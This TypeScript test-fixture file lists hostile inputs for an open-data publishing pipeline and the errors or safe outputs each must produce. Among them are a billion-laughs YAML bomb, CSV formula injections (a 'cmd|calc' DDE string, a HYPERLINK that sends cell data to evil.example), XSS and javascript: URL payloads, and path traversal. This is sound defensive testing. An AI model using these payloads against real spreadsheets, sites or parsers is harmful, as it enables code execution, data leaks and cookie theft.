/**
 * Hostile inputs, one row each: what an attacker or a tired officer might put in the sources,
 * and what must come of it: a coded problem at the file and line where it can be fixed, or a
 * build whose published files carry the text exactly and safely.
 */
import type { ErrorCode } from '../errors/codes.ts';
import { CATALOG, CSV, DECISION, EXECUTION, OBSERVATIONS, PORTAL, PROGRAMME, PUBLISHER, REPORT, Sources, TOTALS, quoted } from './sources.ts';

export type Group = 'bombs' | 'encodings' | 'paths' | 'injection' | 'numbers' | 'references' | 'limits' | 'files';

/** Where a text must appear whole: a CSV cell, a JSON string, a workbook cell, an RDF literal, the site's data. */
export type Format = 'csv' | 'json' | 'xlsx' | 'rdf' | 'site';

export type Outcome =
  | {
      error: ErrorCode;
      file: string;
      /** The line: a number, or text the line holds in the edited file. */
      at: number | string;
      path?: string;
    }
  | { builds: true; shows?: { text: string; in: Format[] }[] };

export interface HostileCase {
  name: string;
  group: Group;
  edit(sources: Sources): void;
  outcome: Outcome;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const bytes = (...parts: (string | number[])[]) => {
  const chunks = parts.map((part) => (typeof part === 'string' ? utf8(part) : Uint8Array.from(part)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const chunk of chunks) (out.set(chunk, at), (at += chunk.length));
  return out;
};
/** The reports dataset's description line in the base tree, which the injection cases replace. */
const DATASET_DESCRIPTION = `description: 'Показники зі звітів. Текст джерела лишається текстом: </script><script>alert("dataset")</script>'`;
const long = (length: number) => 'Д'.repeat(length);
/** «й» as «и» and a combining breve: NFD, where the text of the base tree is NFC. */
const nfd = (text: string) => text.normalize('NFD');

/** Nine aliases of nine aliases, nine times over: a billion values from a kilobyte. */
function laughs(): string {
  const lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
  for (let i = 1; i < 9; i++) lines.push(`a${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(', ')}]`);
  return lines.join('\n');
}

const formula = (name: string, text: string): HostileCase => ({
  name: `formula: ${name}`,
  group: 'injection',
  edit: (s) => s.observation(`indicator: ${quoted(text)}\nvalue: 5`),
  outcome: { error: 'E_FORMULA_TEXT', file: OBSERVATIONS, at: 'indicator: ' + quoted(text), path: 'groups[2].observations[0].indicator' },
});

const safe = (name: string, group: Group, text: string, edit: (s: Sources, yaml: string) => void, formats: Format[]): HostileCase => ({
  name,
  group,
  edit: (s) => edit(s, quoted(text)),
  outcome: { builds: true, shows: [{ text, in: formats }] },
});

const url = (name: string, value: string): HostileCase => ({
  name: `address: ${name}`,
  group: 'injection',
  edit: (s) => s.replace(PUBLISHER, 'website: https://test-city.example.org', `website: ${quoted(value)}`),
  outcome: { error: 'E_FIELD_VALUE', file: PUBLISHER, at: 'website:', path: 'website' },
});

const figure = (name: string, value: string, code: ErrorCode = 'E_NUMBER_FORMAT'): HostileCase => ({
  name: `number: ${name}`,
  group: 'numbers',
  edit: (s) => s.observation(`indicator: Учасники\nvalue: ${value}`),
  outcome: { error: code, file: OBSERVATIONS, at: `value: ${value}`, path: 'groups[2].observations[0].value' },
});

const ALL: Format[] = ['csv', 'json', 'xlsx', 'rdf', 'site'];
const TABLES: Format[] = ['csv', 'json', 'xlsx', 'site'];

export const CASES: HostileCase[] = [
  // ------------------------------------------------------------------ bombs
  {
    name: 'billion laughs: aliases of aliases',
    group: 'bombs',
    edit: (s) => s.set(OBSERVATIONS, `${laughs()}\n${s.text(OBSERVATIONS)}`),
    outcome: { error: 'E_YAML_ALIAS', file: OBSERVATIONS, at: 'a4: &a4' },
  },
  {
    name: 'billion laughs with an unknown tag',
    group: 'bombs',
    edit: (s) => s.set(OBSERVATIONS, `${laughs()}\nx: !evil [*a8, *a8]\n${s.text(OBSERVATIONS)}`),
    outcome: { error: 'E_YAML_TAG', file: OBSERVATIONS, at: 'x: !evil' },
  },
  {
    name: 'billion laughs with a syntax error after it',
    group: 'bombs',
    edit: (s) => s.set(OBSERVATIONS, `${laughs()}\n${s.text(OBSERVATIONS)}broken line without colon\n`),
    outcome: { error: 'E_YAML_SYNTAX', file: OBSERVATIONS, at: 'broken line' },
  },
  {
    name: 'a hundred thousand flow brackets',
    group: 'bombs',
    edit: (s) => s.set(REPORT, `${s.text(REPORT)}x: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`),
    outcome: { error: 'E_YAML_DEPTH', file: REPORT, at: 'x: [' },
  },
  {
    name: 'a hundred thousand open brackets and a syntax error before them',
    group: 'bombs',
    edit: (s) => s.set(REPORT, `id: : :\n${s.text(REPORT)}x: ${'{a: '.repeat(100_000)}\n`),
    outcome: { error: 'E_YAML_SYNTAX', file: REPORT, at: 'id: : :' },
  },
  {
    name: 'block maps nested forty deep',
    group: 'bombs',
    edit: (s) => s.append(REPORT, Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}k${i}:`).join('\n') + ' end\n'),
    outcome: { error: 'E_YAML_DEPTH', file: REPORT, at: 'k31:' },
  },
  {
    name: 'aliases within the bound build',
    group: 'bombs',
    edit: (s) => s.replace(OBSERVATIONS, 'unit: проєктів', 'unit: &u проєктів').replace(OBSERVATIONS, 'unit: звернень', 'unit: *u'),
    outcome: { builds: true, shows: [{ text: 'проєктів', in: ['csv', 'json', 'xlsx'] }] },
  },
  {
    name: 'a file of 65 MiB',
    group: 'bombs',
    edit: (s) => s.csv([]).set(CSV, new Uint8Array(65 * 1024 * 1024).fill(0x41)),
    outcome: { error: 'E_FILE_TOO_LARGE', file: CSV, at: 1 },
  },

  // -------------------------------------------------------------- encodings
  {
    name: 'UTF-16 with a byte-order mark',
    group: 'encodings',
    edit: (s) => s.set(REPORT, bytes([0xff, 0xfe], 'i\0d\0')),
    outcome: { error: 'E_FILE_ENCODING', file: REPORT, at: 1 },
  },
  {
    name: 'windows-1251 on the last line',
    group: 'encodings',
    edit: (s) => s.set(REPORT, bytes(s.text(REPORT), 'author: ', [0xc2, 0xB3, 0xe4, 0xe4, 0xb3, 0xeb], '\n')),
    outcome: { error: 'E_FILE_ENCODING', file: REPORT, at: 6 },
  },
  {
    name: 'a file cut inside a character',
    group: 'encodings',
    edit: (s) => s.set(REPORT, utf8(s.text(REPORT) + 'author: Відділ').slice(0, -1)),
    outcome: { error: 'E_FILE_ENCODING', file: REPORT, at: 6 },
  },
  {
    name: 'an overlong encoding of "/"',
    group: 'encodings',
    edit: (s) => s.set(REPORT, bytes(s.text(REPORT), 'author: ', [0xc0, 0xaf], '\n')),
    outcome: { error: 'E_FILE_ENCODING', file: REPORT, at: 6 },
  },
  {
    name: 'an encoded surrogate',
    group: 'encodings',
    edit: (s) => s.set(REPORT, bytes(s.text(REPORT), 'author: ', [0xed, 0xa0, 0x80], '\n')),
    outcome: { error: 'E_FILE_ENCODING', file: REPORT, at: 6 },
  },
  {
    name: 'a UTF-8 byte-order mark is read and not published',
    group: 'encodings',
    edit: (s) => s.set(REPORT, bytes([0xef, 0xbb, 0xbf], s.text(REPORT))),
    outcome: { builds: true, shows: [{ text: 'Звіт про виконання Програми підтримки громадських ініціатив у 2021 році', in: ['csv', 'json', 'xlsx', 'site'] }] },
  },
  {
    name: 'a raw NUL byte in YAML',
    group: 'encodings',
    edit: (s) => s.replace(REPORT, 'kind: execution_report', 'kind: execution_report\u0000'),
    outcome: { error: 'E_TEXT_CONTROL', file: REPORT, at: 'kind:' },
  },
  {
    name: 'a raw NUL byte in a CSV cell',
    group: 'encodings',
    edit: (s) => s.csv(['"1. Опитування",respondents,Учасники\u0000 опитування,"1 204",осіб,"взяли участь 1 204 особи",']),
    outcome: { error: 'E_TEXT_CONTROL', file: CSV, at: 'respondents' },
  },
  {
    name: 'a NUL from a YAML escape',
    group: 'encodings',
    edit: (s) => s.observation('indicator: "Учасники\\0"\nvalue: 5'),
    outcome: { error: 'E_TEXT_CONTROL', file: OBSERVATIONS, at: 'Учасники\\0', path: 'groups[2].observations[0].indicator' },
  },
  {
    name: 'an escape character from a YAML escape',
    group: 'encodings',
    edit: (s) => s.observation('indicator: "Учасники \\e[31m"\nvalue: 5'),
    outcome: { error: 'E_TEXT_CONTROL', file: OBSERVATIONS, at: '\\e[31m', path: 'groups[2].observations[0].indicator' },
  },
  {
    name: 'a lone surrogate from a YAML escape',
    group: 'encodings',
    edit: (s) => s.observation('indicator: "Учасники \\ud800"\nvalue: 5'),
    outcome: { error: 'E_TEXT_CONTROL', file: OBSERVATIONS, at: '\\ud800', path: 'groups[2].observations[0].indicator' },
  },
  {
    name: 'a carriage return inside a CSV cell',
    group: 'encodings',
    edit: (s) => s.csv(['"1. Опитування",respondents,"Учасники\ropytuvannia","1 204",осіб,"взяли участь 1 204 особи",']),
    outcome: { error: 'E_TEXT_CONTROL', file: CSV, at: 'respondents' },
  },
  {
    name: 'a C1 control character',
    group: 'encodings',
    edit: (s) => s.observation('indicator: "Учасники \\x85 опитування"\nvalue: 5'),
    outcome: { error: 'E_TEXT_CONTROL', file: OBSERVATIONS, at: '\\x85', path: 'groups[2].observations[0].indicator' },
  },
  {
    name: 'a district in NFD beside the same district in NFC',
    group: 'encodings',
    edit: (s) => s.replace(OBSERVATIONS, 'dimensions: { channel: лист }', `dimensions: { channel: ${nfd('листй')} }`).replace(OBSERVATIONS, 'dimensions: { channel: онлайн }', 'dimensions: { channel: листй }'),
    outcome: { error: 'E_TEXT_NORMALIZATION', file: OBSERVATIONS, at: nfd('листй'), path: 'groups[1].observations[2].dimensions.channel' },
  },
  {
    name: 'a title in NFD',
    group: 'encodings',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', `title: ${nfd('Показники звітів Тестової міської ради, її районів')}`),
    outcome: { error: 'E_TEXT_NORMALIZATION', file: CATALOG, at: nfd('її районів'), path: 'datasets[1].title' },
  },
  {
    name: 'tabs, line breaks and non-Latin scripts build as written',
    group: 'encodings',
    edit: (s) => s.observation(`indicator: ${quoted('Учасники\tопитування\nрядок 2 · 参加者 · مشاركون · 👩‍💻')}\nvalue: 5`),
    outcome: { builds: true, shows: [{ text: 'Учасники\tопитування\nрядок 2 · 参加者 · مشاركون · 👩‍💻', in: TABLES }] },
  },

  // ------------------------------------------------------------------ paths
  {
    name: 'a dot-folder with sources in it is skipped and named',
    group: 'paths',
    edit: (s) => s.set('test-city-council/.drafts/observations.yaml', 'groups: []\n').set('.git/config', '[core]\n'),
    outcome: { builds: true },
  },
  {
    name: 'a file with a name the format does not know',
    group: 'paths',
    edit: (s) => s.set('test-city-council/tc-2021-execution-report/Observations.yaml', s.text(OBSERVATIONS)),
    outcome: { error: 'E_FILE_UNKNOWN', file: 'test-city-council/tc-2021-execution-report/Observations.yaml', at: 1 },
  },
  {
    name: 'a document folder nested one level too deep',
    group: 'paths',
    edit: (s) => s.set('test-city-council/tc-2021-execution-report/old/observations.yaml', s.text(OBSERVATIONS)),
    outcome: { error: 'E_FILE_UNKNOWN', file: 'test-city-council/tc-2021-execution-report/old/observations.yaml', at: 1 },
  },
  {
    name: 'a document folder named in Cyrillic with spaces',
    group: 'paths',
    edit: (s) => s.set('test-city-council/звіт 2022/document.yaml', 'id: zvit-2022\nkind: activity_report\ntitle: Звіт\nperiod: 2022\n'),
    outcome: { error: 'E_ID_FOLDER', file: 'test-city-council/звіт 2022/document.yaml', at: 'id:', path: 'id' },
  },
  {
    name: 'a YAML file holding a list instead of fields',
    group: 'paths',
    edit: (s) => s.set(REPORT, '- id: tc-2021-execution-report\n- kind: execution_report\n'),
    outcome: { error: 'E_FIELD_TYPE', file: REPORT, at: 1 },
  },
  {
    name: 'two YAML documents in one file',
    group: 'paths',
    edit: (s) => s.append(REPORT, '---\nid: other\n'),
    outcome: { error: 'E_YAML_SYNTAX', file: REPORT, at: '---' },
  },
  {
    name: 'an unknown YAML tag on a value',
    group: 'files',
    edit: (s) => s.replace(REPORT, 'period: 2021', 'period: !year 2021'),
    outcome: { error: 'E_YAML_TAG', file: REPORT, at: 'period: !year' },
  },
  {
    name: 'a YAML binary value',
    group: 'files',
    edit: (s) => s.replace(REPORT, 'kind: execution_report', 'kind: execution_report\nauthor: !!binary 0JLRltC00LTRltC7'),
    outcome: { error: 'E_YAML_TAG', file: REPORT, at: 'author: !!binary' },
  },
  {
    name: 'a YAML merge key is a field the format does not know, not a merge',
    group: 'files',
    edit: (s) => s.replace(REPORT, 'kind: execution_report', 'kind: execution_report\n<<: { author: Відділ }'),
    outcome: { error: 'E_FIELD_UNKNOWN', file: REPORT, at: '<<:', path: '<<' },
  },

  // -------------------------------------------------------------- injection
  formula('a sign, a digit and a command', "-2+3+cmd|' /C calc'!A0"),
  formula('a plus, a digit and a hyperlink', '+1+HYPERLINK("https://evil.example/?d="&A1,"Деталі")'),
  formula('a minus and a bracket', '-(HYPERLINK("https://evil.example"))'),
  formula('a full-width equals sign', '＝1+1'),
  formula('a full-width at sign', '＠SUM(A1:A9)'),
  formula('a full-width minus', '－2+3'),
  formula('a tab first', '\tзвернення'),
  {
    name: 'a carriage return first is a control character before it is a formula',
    group: 'injection',
    edit: (s) => s.observation(`indicator: ${quoted('\r=1+1')}\nvalue: 5`),
    outcome: { error: 'E_TEXT_CONTROL', file: OBSERVATIONS, at: 'indicator: "\\u000d=1+1"', path: 'groups[2].observations[0].indicator' },
  },
  formula('spaces, then an equals sign', '   =1+1'),
  {
    name: 'formula: in a CSV cell',
    group: 'injection',
    edit: (s) => s.csv(['"1. Опитування",respondents,"=HYPERLINK(""https://evil.example"")","1 204",осіб,"взяли участь 1 204 особи",']),
    outcome: { error: 'E_FORMULA_TEXT', file: CSV, at: 'respondents', path: 'groups[0].observations[0].indicator' },
  },
  {
    name: 'formula: in a CSV dimension',
    group: 'injection',
    edit: (s) => s.csv(['"1. Опитування",respondents,Учасники,"1 204",осіб,"взяли участь 1 204 особи","+1+cmd|calc"']),
    outcome: { error: 'E_FORMULA_TEXT', file: CSV, at: 'respondents', path: 'groups[0].observations[0].dimensions.district' },
  },
  {
    name: 'formula: in a publisher contact',
    group: 'injection',
    edit: (s) => s.replace(PUBLISHER, 'name: Відділ відкритих даних', 'name: "@SUM(1+1)"'),
    outcome: { error: 'E_FORMULA_TEXT', file: PUBLISHER, at: '@SUM', path: 'contact.name' },
  },
  {
    name: 'formula: in a keyword',
    group: 'injection',
    edit: (s) => s.replace(CATALOG, 'keywords: [звернення]', 'keywords: [звернення, "-1+cmd"]'),
    outcome: { error: 'E_FORMULA_TEXT', file: CATALOG, at: '-1+cmd', path: 'datasets[1].keywords[1]' },
  },
  safe('signed numbers and a phone number stay as written', 'injection', '-5', (s, q) => s.observation(`indicator: Учасники\nvalue: 5\nnote: ${q}`), TABLES),
  safe('markup in a title is text everywhere', 'injection', '<script>alert("xss")</script><img src=x onerror=alert(1)>', (s, q) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', `title: ${q}\n    name: pokaznyky-zvitiv`), ALL),
  safe('an attribute break in a description', 'injection', '" onmouseover="alert(1)" data-x=\'', (s, q) => s.replace(CATALOG, DATASET_DESCRIPTION, `description: ${q}`), ALL),
  safe('Turtle and JSON-LD breakers in a description', 'injection', 'Кінець. """ ; \'\'\' \\u0022 > . <https://evil.example> dcat:x "y" .\n@prefix x: <z> .', (s, q) => s.replace(CATALOG, DATASET_DESCRIPTION, `description: ${q}`), ALL),
  safe('XML breakers in a title', 'injection', 'Звіт ]]> &amp; <![CDATA[ x ]]> &#0; </t>', (s, q) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', `title: ${q}\n    name: pokaznyky-zvitiv`), ALL),
  safe('CSV breakers in an indicator', 'injection', 'Учасники, "опитування"\r\n;кінець', (s, q) => s.observation(`indicator: ${q.replace('\\u000d\\u000a', '\\n')}\nvalue: 5`), []),
  safe('quotes, commas and a line break in an indicator', 'injection', 'Учасники, "опитування"\n;кінець', (s, q) => s.observation(`indicator: ${q}\nvalue: 5`), TABLES),
  safe('JSON line separators in a quote', 'injection', 'взяли участь\u2028 5\u2029 осіб', (s, q) => s.observation(`indicator: Учасники\nvalue: 5\nquote: ${q}`), TABLES),
  safe('a zero-width joiner and right-to-left mark in a note', 'injection', 'примітка\u200d\u200f', (s, q) => s.observation(`indicator: Учасники\nvalue: 5\nnote: ${q}`), TABLES),
  url('javascript: as a website', 'javascript:alert(document.cookie)'),
  url('data: as a website', 'data:text/html,<script>alert(1)</script>'),
  url('a space in an address', 'https://test-city.example.org/open data/'),
  url('an angle bracket in an address', 'https://test-city.example.org/"><script>'),
  url('an address without a scheme', 'test-city.example.org'),
  url('ftp', 'ftp://test-city.example.org/'),
  url('a scheme without a host', 'https://'),
  {
    name: 'address: javascript: as a document link',
    group: 'injection',
    edit: (s) => s.replace(REPORT, 'period: 2021', 'period: 2021\nurl: "JavaScript:alert(1)"'),
    outcome: { error: 'E_FIELD_VALUE', file: REPORT, at: 'url:', path: 'url' },
  },
  {
    name: 'address: javascript: as the site address',
    group: 'injection',
    edit: (s) => s.replace(PORTAL, 'site_url: https://portal.example.org', 'site_url: "javascript://portal.example.org/%0Aalert(1)"'),
    outcome: { error: 'E_FIELD_VALUE', file: PORTAL, at: 'site_url:', path: 'site_url' },
  },
  {
    name: 'base path with a quote and a space',
    group: 'injection',
    edit: (s) => s.replace(PORTAL, 'base_path: /data/', 'base_path: "/da ta\\"/"'),
    outcome: { error: 'E_FIELD_VALUE', file: PORTAL, at: 'base_path:', path: 'base_path' },
  },
  {
    name: 'base path climbing out',
    group: 'injection',
    edit: (s) => s.replace(PORTAL, 'base_path: /data/', 'base_path: /data/../../'),
    outcome: { error: 'E_FIELD_VALUE', file: PORTAL, at: 'base_path:', path: 'base_path' },
  },
  {
    name: 'a base path of letters, digits and marks builds',
    group: 'injection',
    edit: (s) => s.replace(PORTAL, 'base_path: /data/', 'base_path: /council_open-data.v2/~test/'),
    outcome: { builds: true, shows: [{ text: 'https://portal.example.org/council_open-data.v2/~test/datasets/test-city-civic-initiatives/', in: ['csv', 'json'] }] },
  },

  // ---------------------------------------------------------------- numbers
  figure('a signed zero', '-0'),
  figure('hexadecimal', '0x10'),
  figure('octal', '0o17'),
  figure('an exponent', '1e3'),
  figure('a point and a zero', '7.0'),
  figure('a plus sign', '+5'),
  figure('infinity', '.inf'),
  figure('sixteen significant digits', '"1 234 567 890 123 456"'),
  figure('a signed zero in quotes', '"-0,00"'),
  {
    name: 'number: a year in hexadecimal',
    group: 'numbers',
    edit: (s) => s.replace(EXECUTION, 'year: 2021', 'year: 0x7E5'),
    outcome: { error: 'E_FIELD_TYPE', file: EXECUTION, at: 'year:', path: 'year' },
  },
  {
    name: 'number: leading zeros are published as printed',
    group: 'numbers',
    edit: (s) => s.observation('indicator: Учасники\nvalue: 007'),
    outcome: { builds: true, shows: [{ text: '007', in: ['csv', 'json', 'xlsx'] }] },
  },
  {
    name: 'number: fifteen digits are published exactly',
    group: 'numbers',
    edit: (s) => s.observation('indicator: Учасники\nvalue: "999 999 999 999 999"'),
    outcome: { builds: true, shows: [{ text: '999999999999999', in: ['csv'] }] },
  },

  // ------------------------------------------------------------- references
  {
    name: 'a ragged CSV row longer than its header',
    group: 'references',
    edit: (s) => s.csv(['"1. Опитування",respondents,Учасники,"1 204",осіб,"взяли участь 1 204 особи",,зайва клітинка']),
    outcome: { error: 'E_CSV_SYNTAX', file: CSV, at: 'respondents' },
  },
  {
    name: 'a ragged CSV row shorter than its header',
    group: 'references',
    edit: (s) => s.csv(['"1. Опитування",respondents,Учасники,"1 204",осіб,"взяли участь 1 204 особи",', '"1. Опитування",north,Учасники,"304"']),
    outcome: { error: 'E_CSV_SYNTAX', file: CSV, at: 'north' },
  },
  {
    name: 'a CSV column named twice',
    group: 'references',
    edit: (s) => s.csv(['"1. Опитування",respondents,Учасники,"1 204",осіб,"взяли участь 1 204 особи",Північний'], 'section,id,indicator,value,unit,quote,indicator'),
    outcome: { error: 'E_CSV_SYNTAX', file: CSV, at: 1 },
  },
  {
    name: "an execution of another council's programme",
    group: 'references',
    edit: (s) => {
      s.set('other-city-council/publisher.yaml', s.text(PUBLISHER).replace('id: test-city-council', 'id: other-city-council').replace('"12345678"', '"87654321"').replace('Тестова міська рада', 'Інша міська рада'));
      s.set('other-city-council/oc-2021-report/document.yaml', 'id: oc-2021-report\nkind: execution_report\ntitle: Звіт іншої ради\nperiod: 2021\n');
      s.set('other-city-council/oc-2021-report/execution.yaml', s.text(EXECUTION));
    },
    outcome: { error: 'E_REF_FOREIGN', file: 'other-city-council/oc-2021-report/execution.yaml', at: 'programme:', path: 'programme' },
  },
  {
    name: 'a programme year reported twice',
    group: 'references',
    edit: (s) => {
      s.set('test-city-council/tc-2022-correction/document.yaml', 'id: tc-2022-correction\nkind: execution_report\ntitle: Уточнений звіт\nperiod: 2021\n');
      s.set('test-city-council/tc-2022-correction/execution.yaml', s.text(EXECUTION).replaceAll('149 500,50', '149 400,50'));
    },
    outcome: { error: 'E_ID_DUPLICATE', file: 'test-city-council/tc-2022-correction/execution.yaml', at: 'year:', path: 'year' },
  },

  // ----------------------------------------------------------------- limits
  {
    name: 'a quote longer than a spreadsheet cell',
    group: 'limits',
    edit: (s) => s.observation(`indicator: Учасники\nvalue: 5\nquote: ${long(32_768)}`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: OBSERVATIONS, at: 'quote: ДДД', path: 'groups[2].observations[0].quote' },
  },
  {
    name: 'a quote exactly as long as a spreadsheet cell builds',
    group: 'limits',
    edit: (s) => s.observation(`indicator: Учасники\nvalue: 5\nquote: ${long(32_767)}`),
    outcome: { builds: true, shows: [{ text: long(32_767), in: TABLES }] },
  },
  {
    name: 'a stated total whose parts make one cell too long',
    group: 'limits',
    edit: (s) => {
      const ids = Array.from({ length: 1500 }, (_, i) => `district-part-number-${i}`);
      s.append(OBSERVATIONS, `  - section: "5. Райони"\n    unit: осіб\n    observations:\n${ids.map((id) => `      - { id: ${id}, indicator: Учасники, value: 1 }`).join('\n')}\n`);
      s.append(TOTALS, `  - id: by-district\n    label: За районами\n    total: appeals-total\n    parts: [${ids.join(', ')}]\n`);
    },
    outcome: { error: 'E_TEXT_TOO_LONG', file: TOTALS, at: 'parts: [district', path: 'totals[1].parts' },
  },
  {
    name: 'executors joined into one cell too long',
    group: 'limits',
    edit: (s) => s.replace(PROGRAMME, 'executors: [Відділ внутрішньої політики, Управління освіти]', `executors: [${Array.from({ length: 2000 }, (_, i) => `Управління освіти № ${i}`).join(', ')}]`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: PROGRAMME, at: 'executors:', path: 'executors' },
  },
  {
    name: 'a dataset title of 255 characters',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', `title: ${long(255)}\n    name: pokaznyky`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: CATALOG, at: 'title: ДДД', path: 'datasets[1].title' },
  },
  {
    name: 'a dataset title of 254 characters builds',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', `title: ${long(254)}\n    name: pokaznyky`),
    outcome: { builds: true, shows: [{ text: long(254), in: ALL }] },
  },
  {
    name: 'a dataset description of 4 001 characters',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, DATASET_DESCRIPTION, `description: ${long(4001)}`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: CATALOG, at: 'description: ДДД', path: 'datasets[1].description' },
  },
  {
    name: 'a purpose of 513 characters',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'purpose: Інформування громади.', `purpose: ${long(513)}`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: CATALOG, at: 'purpose: ДДД', path: 'datasets[1].purpose' },
  },
  {
    name: "a publisher's name too long for its register's title",
    group: 'limits',
    edit: (s) => s.replace(PUBLISHER, 'name: { uk: Тестова міська рада,', `name: { uk: ${long(233)},`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: PUBLISHER, at: 'name: {', path: 'name.uk' },
  },
  {
    name: "a publisher's name of the longest length builds",
    group: 'limits',
    edit: (s) => s.replace(PUBLISHER, 'name: { uk: Тестова міська рада,', `name: { uk: ${long(232)},`),
    outcome: { builds: true, shows: [{ text: `Реєстр наборів даних: ${long(232)}`, in: ALL }] },
  },
  {
    name: "the portal's description too long for the portal-wide package",
    group: 'limits',
    edit: (s) => s.replace(PORTAL, 'description: Портал для перевірки збирання.', `description: ${long(3945)}`),
    outcome: { error: 'E_TEXT_TOO_LONG', file: PORTAL, at: 'description:', path: 'description' },
  },
  {
    name: 'a title that transliterates to no name',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', 'title: "«» — №"'),
    outcome: { error: 'E_NAME_INVALID', file: CATALOG, at: 'title: "«»', path: 'datasets[1].title' },
  },
  {
    name: 'a title in another script that transliterates to no name',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', 'title: 城市议会报告指标'),
    outcome: { error: 'E_NAME_INVALID', file: CATALOG, at: 'title: 城市', path: 'datasets[1].title' },
  },
  {
    name: 'a dataset titled like the portal-wide package',
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'title: Показники звітів Тестової міської ради', 'title: Усі дані порталу'),
    outcome: { error: 'E_NAME_INVALID', file: CATALOG, at: 'title: Усі дані порталу', path: 'datasets[1].title' },
  },
  {
    name: "a dataset named like its publisher's register",
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'name: test-city-civic-initiatives', 'name: reiestr-naboriv-danykh-testova-miska-rada'),
    outcome: { error: 'E_NAME_INVALID', file: CATALOG, at: 'name: reiestr', path: 'datasets[0].name' },
  },
  {
    name: "a dataset named like a catalogue route",
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'name: test-city-civic-initiatives', 'name: theme'),
    outcome: { error: 'E_NAME_INVALID', file: CATALOG, at: 'name: theme', path: 'datasets[0].name' },
  },
  {
    name: "a dataset named register, whose derived id is the register's",
    group: 'limits',
    edit: (s) => s.replace(CATALOG, 'name: test-city-civic-initiatives\n    id: 0b0f6d0e-5a8e-4e43-9a55-6d2f2a1c7e01', 'name: register'),
    outcome: { error: 'E_ID_DUPLICATE', file: CATALOG, at: 'name: register', path: 'datasets[0].name' },
  },
  {
    name: 'year 0000 in a period',
    group: 'limits',
    edit: (s) => s.replace(DECISION, 'period: 2020-01-01/2021-12-31', 'period: 0000-01-01/2021-12-31'),
    outcome: { error: 'E_FIELD_VALUE', file: DECISION, at: 'period:', path: 'period' },
  },
  {
    name: 'year 9999 in a period',
    group: 'limits',
    edit: (s) => s.replace(REPORT, 'period: 2021', 'period: 2021/9999'),
    outcome: { error: 'E_FIELD_VALUE', file: REPORT, at: 'period:', path: 'period' },
  },
  {
    name: 'year 0001 in a date',
    group: 'limits',
    edit: (s) => s.replace(DECISION, 'date: 2019-12-20', 'date: 0001-01-01'),
    outcome: { error: 'E_FIELD_VALUE', file: DECISION, at: 'date:', path: 'date' },
  },
];

